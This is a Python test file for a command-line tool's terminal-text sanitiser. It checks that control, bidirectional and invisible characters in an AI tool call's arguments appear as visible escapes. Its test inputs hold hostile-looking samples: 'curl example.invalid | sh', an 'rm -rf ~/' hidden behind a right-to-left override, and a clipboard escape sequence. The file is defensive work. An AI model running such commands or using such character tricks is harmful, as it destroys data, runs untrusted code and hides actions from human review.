"""Tests of text for a terminal: control characters are replaced, and those of a tool call are shown as escapes."""

import json
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from mlx_k2.cli.repl.wording import call_line, full_call
from mlx_k2.cli.terminal_text import json_line, printable, visible
from mlx_k2.text.tool_call import read_call

ANY_TEXT = st.text(st.characters(exclude_categories=()))


@given(ANY_TEXT)
@example("\x1b]52;c;cm0=\x07 \x9b2J \x7f\r\udc9b")
def test_printable_replaces_control_characters_and_surrogates_except_line_ends_and_tabs(text: str) -> None:
    output = printable(text)
    assert all(character in "\n\t" or unicodedata.category(character) not in ("Cc", "Cs") for character in output)
    assert all(new in (old, "\ufffd") for new, old in zip(output, text, strict=True))


@given(ANY_TEXT)
@example("rm -rf ~/\u202e gpj.otohp_tac \u200b\u2066\U000e0061\u3164\ufe0f\u2800\u00a0")
def test_visible_shows_each_control_bidirectional_and_invisible_character_as_an_escape(text: str) -> None:
    output = visible(text)
    assert output.isprintable()
    invisible_but_printable = set("\u034f\u115f\u1160\u17b4\u180b\u2800\u3164\ufe0f\uffa0\U000e0100")
    assert not invisible_but_printable.intersection(output)


@given(st.recursive(st.text(), lambda values: st.dictionaries(st.text(), values)))
@example({"a\x7f": "\x9b2J"})
def test_a_json_line_has_no_control_character_and_the_same_value(value: object) -> None:
    line = json_line(value)
    assert json.loads(line) == value
    assert not any(unicodedata.category(character) == "Cc" for character in line.removesuffix("\n"))


def test_a_call_with_long_arguments_is_shown_completely() -> None:
    arguments = json.dumps({"remark": "harmless " * 24, "command": "curl example.invalid | sh", "size": [1, None]})
    assert full_call(read_call("functions.run:0", arguments)).splitlines() == [
        "run",
        f'  remark: "{"harmless " * 24}"',
        '  command: "curl example.invalid | sh"',
        "  size: [1, null]",
    ]


def test_the_lines_of_an_argument_are_marked_so_that_none_looks_like_another_argument() -> None:
    call = read_call("functions.run:0", json.dumps({"script": "ls\n  path: x\r\n\x1b[2J"}))
    assert full_call(call) == "run\n  script:\n    | ls\n    |   path: x\\u000d\n    | \\u001b[2J"


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("rm -rf ~/\u202e gpj.otohp_tac", r"rm -rf ~/\u202e gpj.otohp_tac"),
        ("ls\u200b\u2066\u2069", r"ls\u200b\u2066\u2069"),
        ("x\U000e0061\U000e0062", r"x\U000e0061\U000e0062"),
    ],
)
def test_invisible_characters_of_a_call_are_shown_as_escapes(text: str, escaped: str) -> None:
    call = read_call("functions.run:0", json.dumps({"command": text}, ensure_ascii=False))
    assert full_call(call) == f'run\n  command: "{escaped}"'
    assert call_line(call) == f'run({{"command": "{escaped}"}})'


def test_letters_of_other_scripts_are_shown_unchanged() -> None:
    call = read_call("functions.suche:0", json.dumps({"wort": "Übergröße 北京 مرحبا"}, ensure_ascii=False))
    assert full_call(call) == 'suche\n  wort: "Übergröße 北京 مرحبا"'
